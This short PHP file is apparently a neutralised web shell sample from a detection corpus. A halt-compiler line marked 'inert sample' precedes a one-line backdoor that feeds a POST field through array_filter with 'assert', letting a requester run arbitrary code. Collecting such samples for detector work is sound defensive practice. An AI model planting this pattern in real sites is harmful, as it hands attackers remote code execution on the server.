<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php
$arr = array($_POST['nty']);
array_filter($arr, 'assert');
